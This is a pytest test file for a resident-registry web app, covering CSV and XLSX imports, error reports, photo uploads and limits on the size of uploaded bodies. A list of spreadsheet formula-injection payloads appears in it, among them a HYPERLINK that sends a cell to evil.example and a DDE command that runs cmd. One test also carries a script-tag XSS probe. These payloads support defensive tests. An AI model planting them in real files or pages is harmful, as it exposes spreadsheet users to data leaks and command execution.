"""Importing residents over the web, and lists that go back to a spreadsheet (S44)."""

import asyncio
import csv
import re
from base64 import b64decode
from io import BytesIO, StringIO
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from suket.intake.import_residents import Upload, import_residents
from suket.register.tables import Batch, BatchItem
from suket.residents.tables import Resident
from suket.web.csv_export import lines, safe
from suket.web.office.importing import COLUMNS, EXAMPLE, UPLOAD_BYTES
from tests.office_world import jpeg, nik_of
from tests.suket.web.office.office_counter import hidden, text_of


def table(*rows):
    """Return a CSV of the example with changes, one row for each."""
    out = StringIO()
    writer = csv.DictWriter(out, [name for name in COLUMNS if name != "foto"])
    writer.writeheader()
    for over in rows:
        values = {**EXAMPLE, **over}
        values.pop("foto", None)
        writer.writerow(values)
    return out.getvalue().encode()


def put(browser, data, **more):
    return browser.post("/petugas/impor", files={"tabel": ("t.csv", data)}, **more)


def people(counter):
    return counter.world.all(select(func.count()).select_from(Resident))[0]


def test_a_good_table_is_stored_and_the_way_leads_on_to_issuing(counter):
    browser = counter.officer()
    rows = [{"nik": nik_of(n), "jenis_kelamin": "PEREMPUAN"} for n in range(3)]
    page = put(browser, table(*rows))
    told = text_of(page.text)
    assert "3 penduduk tersimpan" in told
    assert "3 baru, 0 diperbarui" in told
    assert "3 di antaranya memenuhi syarat" in told
    assert people(counter) == 3
    answer = browser.post("/petugas/massal", {"lingkup": hidden(page.text, "lingkup")})
    assert answer.status_code == 303
    assert counter.world.all(select(Batch.total)) == [3]


def test_issuing_to_those_of_one_import_leaves_the_others_waiting(counter):
    counter.world.add(nik=nik_of(50), updated_at=counter.now)
    counter.later(minutes=1)
    browser = counter.officer()
    page = put(browser, table({"nik": nik_of(1)}))
    browser.post("/petugas/massal", {"lingkup": hidden(page.text, "lingkup")})
    ids = counter.world.all(select(BatchItem.resident_id))
    niks = counter.world.all(select(Resident.nik).where(Resident.id.in_(ids)))
    assert niks == [nik_of(1)]


def test_one_bad_row_and_nothing_is_stored(counter):
    browser = counter.officer()
    data = table({"nik": nik_of(1)}, {"nik": "12", "tanggal_lahir": "2003-13-01"})
    page = put(browser, data)
    assert page.status_code == 422
    told = text_of(page.text)
    assert "Belum ada yang disimpan" in told
    assert "1 dari 2 baris perlu diperbaiki" in told
    assert "NIK harus 16 angka" in told
    assert "Tulis tanggal yang benar" in told
    assert people(counter) == 0


def report_of(page):
    """Return the rows of the file that a refused import hands back."""
    held = re.search(r'href="data:text/csv;charset=utf-8;base64,([^"]+)"', page.text)
    text = b64decode(held[1]).decode()
    assert text.startswith("\ufeff")
    return list(csv.reader(StringIO(text[1:])))


def test_the_report_names_row_column_value_reason_and_remedy(counter):
    page = put(counter.officer(), table({}, {"nik": nik_of(1), "tempat_lahir": ""}))
    heading, row = report_of(page)
    assert heading == ["baris", "kolom", "isi", "kode", "cara_memperbaiki"]
    assert row == ["3", "tempat_lahir", "", "KOSONG", "Kolom ini wajib diisi."]


ACTIVE = [
    '=HYPERLINK("http://evil.example?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "＝1+1",
    "  -1",
]


@pytest.mark.parametrize("cell", ACTIVE)
def test_no_cell_of_a_file_we_write_can_act(cell):
    text = "".join(lines(["a"], [[cell]]))
    assert safe(cell) == f"'{cell}"
    assert text.splitlines(keepends=True)[1].startswith("\"'")


@pytest.mark.parametrize("cell", ["SITI", "3274 0141", "470/1", "", "a=b", "d-e"])
def test_an_honest_cell_is_left_as_it_is(cell):
    assert safe(cell) == cell


@pytest.mark.parametrize("cell", [cell for cell in ACTIVE if "\0" not in cell])
def test_what_a_refused_table_held_comes_back_harmless(counter, cell):
    page = put(counter.officer(), table({"nama_lengkap": f"{cell}☃"}))
    values = [row[2] for row in report_of(page)[1:] if row[1] == "nama_lengkap"]
    assert values
    for value in values:
        assert not value.strip().startswith(("=", "+", "-", "@", "＝"))


def test_what_a_refused_table_held_is_text_on_the_page(counter):
    page = put(counter.officer(), table({"nama_lengkap": "<script>alert(1)</script>"}))
    assert "<script>alert" not in page.text


def test_photos_come_in_a_zip_by_nik(counter):
    out = BytesIO()
    with ZipFile(out, "w") as zipped:
        zipped.writestr(f"{nik_of(1)}.jpg", jpeg())
    files = {
        "tabel": ("t.csv", table({"nik": nik_of(1)})),
        "foto": ("f.zip", out.getvalue()),
    }
    page = counter.officer().post("/petugas/impor", files=files)
    assert page.status_code == 200
    assert counter.world.all(select(Resident.photo_digest)) != [None]


@pytest.mark.parametrize(
    ("files", "field"),
    [
        ({}, "tabel"),
        ({"tabel": ("t.csv", b"")}, "tabel"),
        ({"tabel": ("t.csv", b"\x00\xff")}, "tabel"),
        ({"tabel": ("t.csv", b"nama\nSITI\n")}, "tabel"),
        ({"tabel": ("t.csv", table({})), "foto": ("f.zip", b"no zip")}, "foto"),
    ],
)
def test_a_file_that_cannot_be_read_is_named_beside_its_field(counter, files, field):
    page = counter.officer().post("/petugas/impor", files=files)
    assert page.status_code == 422
    assert f'<a href="#{field}">' in page.text
    assert f'id="{field}-error"' in page.text
    assert people(counter) == 0


def test_a_body_that_is_too_large_is_not_read(counter):
    browser = counter.officer()
    huge = {"Content-Length": str(UPLOAD_BYTES + 1)}
    form = {"Content-Type": "multipart/form-data; boundary=b", **huge}
    answer = browser.client.post("/petugas/impor", content=b"--b", headers=form)
    assert answer.status_code == 413


LARGE = 2**20  # more than a form, less than an import


def tasted(counter, headers):
    """Send a large import; return the status, and how much of the body was read."""
    read, sent = [], []

    async def receive():
        read.append(b"x" * LARGE)
        return {"type": "http.request", "body": read[-1], "more_body": len(read) < 3}

    async def send(message):
        sent.append(message)

    named = {"host": "suket.example", "content-type": "multipart/form-data; boundary=b"}
    pairs = {**named, **headers}.items()
    scope = {
        "type": "http",
        "method": "POST",
        "path": "/petugas/impor",
        "raw_path": b"/petugas/impor",
        "query_string": b"",
        "headers": [(name.encode(), value.encode()) for name, value in pairs],
    }
    asyncio.run(counter.app(scope, receive, send))
    return sent[0]["status"], sum(map(len, read))


@pytest.mark.parametrize("cookie", ["", "__Host-suket-petugas=guessed"])
def test_the_large_body_of_a_stranger_is_not_read(counter, cookie):
    headers = {"content-length": str(3 * LARGE), "cookie": cookie}
    assert tasted(counter, headers) == (401, 0)


def test_a_stranger_who_announces_no_length_is_stopped_at_once(counter):
    assert tasted(counter, {"transfer-encoding": "chunked"}) == (401, LARGE)


def test_the_large_body_of_a_session_that_is_over_is_not_read(counter):
    cookies = counter.officer().client.cookies
    cookie = "; ".join(f"{name}={value}" for name, value in cookies.items())
    headers = {"content-length": str(3 * LARGE), "cookie": cookie}
    assert tasted(counter, headers) == (400, LARGE)  # read, and not a form
    counter.later(hours=13)
    assert tasted(counter, headers) == (401, 0)


def test_an_officer_sends_a_table_larger_than_a_form(counter):
    pictures = BytesIO()
    with ZipFile(pictures, "w") as zipped:
        zipped.writestr("3274014107039999.jpg", bytes(LARGE))
    files = {"tabel": ("t.csv", table({})), "foto": ("f.zip", pictures.getvalue())}
    page = counter.officer().post("/petugas/impor", files=files)
    assert page.status_code in {200, 422}


def test_what_is_odd_but_lawful_is_stored_and_shown(counter):
    page = put(counter.officer(), table({"jenis_kelamin": "LAKI-LAKI"}))
    assert "Perlu dilihat sekali lagi" in page.text
    assert people(counter) == 1


def test_both_examples_import_as_they_are(counter):
    browser = counter.officer()
    for path in ("contoh.csv", "contoh.xlsx"):
        data = browser.get(f"/petugas/impor/{path}").content
        report = import_residents(
            counter.world.database,
            Upload(table=data),
            officer=counter.world.officer(),
            now=counter.now,
        )
        assert (report.refused, report.warned, report.changed) == ((), (), ())
        assert report.accepted == 1


def test_imports_of_one_second_are_two(counter):
    browser = counter.officer()
    first = hidden(put(browser, table({"nik": nik_of(1)})).text, "lingkup")
    page = put(browser, table({"nik": nik_of(2)}))
    assert hidden(page.text, "lingkup") != first
    assert "1 penduduk tersimpan" in text_of(page.text)
    browser.post("/petugas/massal", {"lingkup": first})
    ids = counter.world.all(select(BatchItem.resident_id))
    niks = counter.world.all(select(Resident.nik).where(Resident.id.in_(ids)))
    assert niks == [nik_of(1)]


def test_every_cell_of_the_workbook_is_text(counter):
    data = counter.officer().get("/petugas/impor/contoh.xlsx").content
    sheet = load_workbook(BytesIO(data)).active
    kinds = {(type(cell.value), cell.number_format) for cell in sheet[2] if cell.value}
    assert kinds == {(str, "@")}
